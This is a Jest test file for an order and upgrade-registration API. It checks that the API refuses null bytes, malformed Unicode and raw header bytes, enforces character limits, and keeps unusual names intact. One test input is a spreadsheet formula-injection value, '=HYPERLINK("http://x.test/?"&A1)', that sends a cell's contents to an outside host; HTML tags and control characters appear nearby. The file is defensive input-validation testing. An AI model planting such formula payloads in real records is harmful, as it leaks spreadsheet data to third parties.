import { once } from 'node:events';
import { connect } from 'node:net';
import { beforeAll, describe, expect, it } from '@jest/globals';
import type { Route } from '../../contract/route.ts';
import { type OperationId, routes } from '../../contract/routes.ts';
import { fresh } from '../support/installation.ts';
import { asRole, formBody, orderBody, type PlacedOrder, placeOrder, type Reply, Visitor } from '../support/people.ts';
import { sharedInstallation } from '../support/shared-installation.ts';
import { bodies } from './requests.ts';

const { current } = sharedInstallation();

let visitor: Visitor;
let order: PlacedOrder;

beforeAll(async () => {
  visitor = new Visitor(current().url);
  order = await placeOrder(current().url);
  await visitor.walkToSelection(order);
});

type Path = readonly (string | number)[];

/** The place of every text in a body. */
function textsIn(value: unknown, path: Path = []): readonly Path[] {
  if (typeof value === 'string') return [path];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([name, member]) =>
    textsIn(member, [...path, Array.isArray(value) ? Number(name) : name]),
  );
}

function withText(value: unknown, [name, ...deeper]: Path, text: string): unknown {
  if (name === undefined) return text;
  if (Array.isArray(value))
    return (value as unknown[]).map((member, at) => (at === name ? withText(member, deeper, text) : member));
  const members = new Map(Object.entries(value as object));
  return Object.fromEntries([...members, [name, withText(members.get(String(name)), deeper, text)]]);
}

function nameOf(path: Path): string {
  return path
    .map((part) => (typeof part === 'number' ? `[${part}]` : `.${part}`))
    .join('')
    .slice(1);
}

function pathOf({ path }: Route): string {
  return path.replace('{id}', order.upgradeId).replace('{layoutDigest}', 'a'.repeat(64));
}

const operators: readonly string[] = ['viewer', 'operator', 'administrator'];

function request(route: Route, query: string, body?: unknown): Promise<Reply> {
  const to = `${pathOf(route)}${query}`;
  const options = { method: route.method.toUpperCase(), ...(body === undefined ? {} : { body }) };
  if (route.access === 'partner') return asRole(current().url, 'partner', to, options);
  if (operators.includes(route.access)) {
    return asRole(current().url, 'administrator', to, options);
  }
  return visitor.ask(to, options);
}

const fieldsIn = ({ body }: Reply) => (body.fields as { field: string }[]).map(({ field }) => field);

const texts = Object.entries(bodies).flatMap(([id, body]) =>
  textsIn(body).map((path) => ({ id: id as OperationId, body, path, field: nameOf(path) })),
);

const queries = Object.entries<Route>(routes).flatMap(([id, route]) =>
  Object.keys(route.query?.shape ?? {}).map((name) => ({ id, route, name })),
);

describe('what no database can store (F15)', () => {
  it('has a body in the table for each route that takes one with texts', () => {
    const withBody = Object.entries<Route>(routes).filter(([, route]) => route.body);
    const without = withBody.map(([id]) => id).filter((id) => !(id in bodies));
    expect(without).toEqual(['makeKitLink']);
  });

  it.each(texts)('is refused in $id by the name of the field $field', async ({ id, body, path, field }) => {
    for (const text of ['a\0b', '\ud83d']) {
      const reply = await request(routes[id], '', withText(body, path, text));
      expect(reply).toMatchObject({ status: 400, body: { code: 'request-refused' } });
      expect(fieldsIn(reply)).toContain(field);
    }
  });

  it.each(queries)('is refused in the query of $id by the name of $name', async ({ route, name }) => {
    const reply = await request(route, `?${name}=a%00b`);
    expect(reply).toMatchObject({ status: 400, body: { code: 'request-refused', fields: [{ field: name }] } });
  });

  it.each(['/v1/upgrades/a%00b', '/v1/orders/%00', '/v1/commands/%ff', '/docs/problems/%00', '/%00'])(
    'is refused in the path %s',
    async (path) => {
      const reply = await asRole(current().url, 'partner', path);
      expect(reply).toMatchObject({ status: 400, body: { code: 'request-refused', fields: [{ field: 'path' }] } });
    },
  );

  it.each(['Idempotency-Key', 'X-Request-Id', 'Authorization', 'Cookie', 'Accept-Language', 'Last-Event-ID'])(
    'is refused in the header %s, with a problem',
    async (header) => {
      const answer = await answerTo(`GET /v1/orders HTTP/1.1\r\nHost: x\r\n${header}: a\0b\r\n\r\n`);
      expect(answer).toMatch(/^HTTP\/1\.1 400 /);
      expect(answer).toContain('application/problem+json');
      expect(answer).toContain('"field":"headers"');
    },
  );

  it.each(['', 'k'.repeat(256), 'k\u00e9y'])('is no idempotency key: %j', async (key) => {
    const body = orderBody();
    const headers = { 'idempotency-key': key };
    const reply = await asRole(current().url, 'partner', '/v1/orders', { method: 'POST', body, headers });
    expect(reply).toMatchObject({ status: 400, body: { fields: [{ field: 'Idempotency-Key' }] } });
    expect(await current().storage.database.upgradeOrder.count({ where: { orderNumber: body.orderNumber } })).toBe(0);
  });
});

/** All that comes back on a connection of its own for bytes that no client library would send. */
async function answerTo(bytes: string): Promise<string> {
  const socket = connect(Number(new URL(current().url).port), '127.0.0.1');
  let answer = '';
  socket.on('data', (data) => (answer += data.toString()));
  socket.write(bytes);
  await once(socket, 'close');
  return answer;
}

const emoji = (count: number) => '\u{1F600}'.repeat(count);

const limits = [
  ['company', 'name', 128],
  ['company', 'address', 200],
  ['company', 'city', 100],
  ['company', 'state', 100],
  ['company', 'postalCode', 20],
  ['company', 'industry', 100],
  ['company', 'size', 50],
  ['user', 'firstName', 50],
  ['user', 'lastName', 50],
  ['user', 'phone', 50],
  ['user', 'onBehalfOf', 128],
] as const;

async function atTheForm(): Promise<{ readonly id: string; readonly browser: Visitor }> {
  const { registrationKey, upgradeId: id } = await placeOrder(current().url);
  const browser = new Visitor(current().url);
  await browser.register(registrationKey);
  await browser.acceptAgreement(id);
  return { id, browser };
}

describe('a text of many characters (F15)', () => {
  it('is stored whole at the longest, counted in characters', async () => {
    const { id, browser } = await atTheForm();
    const { company, user } = formBody();
    const longest = (part: 'company' | 'user') =>
      Object.fromEntries(limits.filter(([of]) => of === part).map(([, name, most]) => [name, emoji(most)]));
    const sent = { company: { ...company, ...longest('company') }, user: { ...user, ...longest('user') } };
    expect((await browser.submitForm(id, sent)).status).toBe(200);

    const { body } = await browser.ask(`/v1/upgrades/${id}/account-form`);
    const known = body as Record<string, Record<string, { value: string; from: string }>>;
    for (const [part, name, most] of limits) {
      expect([name, known[part]?.[name]]).toEqual([name, { value: emoji(most), from: 'form' }]);
    }
  });

  it.each(limits)('is refused in %s.%s when it has one more than %i', async (part, name, most) => {
    const form = formBody();
    const reply = await visitor.submitForm(order.upgradeId, { [part]: { ...form[part], [name]: emoji(most + 1) } });
    expect(reply).toMatchObject({
      status: 422,
      body: { code: 'form-refused', fields: [{ field: `${part}.${name}` }] },
    });
  });

  it('is kept whole in an order too, its number included', async () => {
    const orderNumber = `${fresh('PO').slice(0, 30)}${emoji(34)}`;
    const customer = {
      customerNumber: `${fresh('C').slice(0, 30)}${emoji(34)}`,
      companyName: emoji(128),
      country: 'DE',
      contact: { name: emoji(50), email: 'lic+smart@acme.test' },
    };
    const placed = await placeOrder(current().url, { orderNumber, customer });
    expect(placed.orderNumber).toBe(orderNumber);

    const read = await asRole(current().url, 'partner', `/v1/orders/${encodeURIComponent(orderNumber)}`);
    const { customerNumber, companyName } = customer;
    expect(read.body).toMatchObject({ orderNumber, customer: { customerNumber, companyName } });
    const browser = new Visitor(current().url);
    await browser.register(placed.registrationKey);
    expect((await browser.ask(`/v1/upgrades/${placed.upgradeId}/account-form`)).body).toMatchObject({
      company: { name: { value: companyName, from: 'order' } },
      user: { firstName: { value: emoji(50) }, email: { value: 'lic+smart@acme.test' } },
    });
  });

  it.each([
    ['orderNumber', { orderNumber: emoji(65) }],
    ['customer.companyName', { customer: { ...orderBody().customer, companyName: emoji(129) } }],
  ])('is refused in the %s of an order when it has one too many', async (field, change) => {
    const body = orderBody(change);
    const reply = await asRole(current().url, 'partner', '/v1/orders', { method: 'POST', body });
    expect(reply.status).toBe(400);
    expect(fieldsIn(reply)).toEqual([field]);
  });

  it.each([
    [500, 404],
    [501, 400],
  ])("of %i in an operator's reason is answered with %i", async (count, status) => {
    const reply = await asRole(
      current().url,
      'operator',
      '/v1/operations/upgrades/01930000-0000-7000-8000-00000000dead/commands',
      { method: 'POST', body: { kind: 'abandon', reason: emoji(count) } },
    );
    expect(reply.status).toBe(status);
  });
});

describe('a name (F1, F2)', () => {
  it.each([
    ["O'Bryan", "Terry's & Söhne <GmbH>", undefined],
    ["J'Marcus", '=HYPERLINK("http://x.test/?"&A1)', 'Ng'],
    ['\u041f\u0435\u043f\u0435', '\u682a\u5f0f\u4f1a\u793e\u30c6\u30b9\u30c8', undefined],
    ['\u5927\u5c71', '<b>\u682a\u2028</b>/\u001b', undefined],
    // Decomposed, with white space around it: neither composed nor trimmed.
    [' Zoe\u0308 ', 'Cafe\u0301\tWorks ', 'D\u2019Angel'],
  ])('%j of %j is kept byte for byte, with or without a second name', async (firstName, name, lastName) => {
    const { id, browser } = await atTheForm();
    const { company, user } = formBody();
    const sent = { company: { ...company, name }, user: { ...user, firstName, ...(lastName && { lastName }) } };
    expect((await browser.submitForm(id, sent)).status).toBe(200);

    const { body } = await browser.ask(`/v1/upgrades/${id}/account-form`);
    expect(body).toMatchObject({
      company: { name: { value: name, from: 'form' } },
      user: { firstName: { value: firstName, from: 'form' } },
    });
    expect((body.user as Record<string, unknown>).lastName).toEqual(lastName && { value: lastName, from: 'form' });
  });

  it.each(['', ' \u3000 '])('is required only when it is empty: %j', async (firstName) => {
    const reply = await visitor.submitForm(order.upgradeId, { user: { ...formBody().user, firstName } });
    expect(reply).toMatchObject({
      status: 422,
      body: { code: 'form-refused', fields: [{ field: 'user.firstName', reason: 'is required' }] },
    });
  });
});

describe('a phone number and an address (F8)', () => {
  it.each([
    ['HK', '+44 (0)20 7946 0018', { tel: 'tel:+442079460018' }],
    ['AE', '0044 20 7946 0018 ext. 12', { tel: 'tel:+442079460018;ext=12' }],
    ['DE', '030 / 12 34', {}],
  ])('in %s: no postal code is asked for, and %s is kept as typed', async (country, phone, normal) => {
    const { id, browser } = await atTheForm();
    const { company, user } = formBody();
    const sent = { company: { ...company, country }, user: { ...user, phone } };
    expect((await browser.submitForm(id, sent)).status).toBe(200);
    const { body } = await browser.ask(`/v1/upgrades/${id}/account-form`);
    expect((body.user as Record<string, unknown>).phone).toEqual({ value: phone, from: 'form', ...normal });
    expect(body.company).not.toHaveProperty('postalCode');
  });
});

// After every test of this file.
describe('the log', () => {
  it('tells of no request that failed on our side', () => {
    expect(current().logs()).toContain('"msg":"request"');
    expect(current().logs()).not.toContain('a request failed');
  });
});
